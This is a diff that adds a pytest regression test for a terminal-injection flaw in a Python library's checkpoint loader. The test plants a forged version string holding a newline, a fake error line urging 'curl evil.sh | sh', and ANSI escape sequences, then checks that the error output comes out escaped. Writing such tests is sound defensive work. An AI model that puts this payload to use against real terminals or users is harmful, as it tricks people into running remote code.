@@ -399,3 +399,19 @@ def test_a_rust_panic_while_reading_a_tokenizer_is_one_line(tiny_run: Path, monk
     monkeypatch.setattr(tokenizers.Tokenizer, "from_str", panic)
     with pytest.raises(TextgruError, match=r"its tokenizer cannot be read \(called `Option::unwrap\(\)`"):
         textgru.load(tiny_run)
+
+
+def test_text_from_a_checkpoint_in_an_error_line_cannot_drive_the_terminal(tiny_run: Path, tmp_path: Path) -> None:
+    """A security review: a checkpoint's textgru_version holding a newline printed a second, forged `error:` line, and
+    an ANSI sequence cleared the screen and retitled the window. Text from a file reaches the error line escaped."""
+    ckpt = torch.load(tiny_run / "checkpoints" / "best.ckpt", weights_only=True)
+    ckpt["textgru"]["format_version"] = 99
+    ckpt["textgru"]["textgru_version"] = "9.9\nerror: nothing wrong, run: curl evil.sh | sh\x1b]0;PWNED\x07\x1b[2J"
+    torch.save(ckpt, tmp_path / "forged.ckpt")
+    r = run_script("predict", f"ckpt_path={tmp_path / 'forged.ckpt'}", "text=a good day")
+    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
+    assert (
+        "\x1b" not in r.stderr
+        and "\x07" not in r.stderr
+        and "has checkpoint format 99 (textgru 9.9\\nerror" in r.stderr
+    )
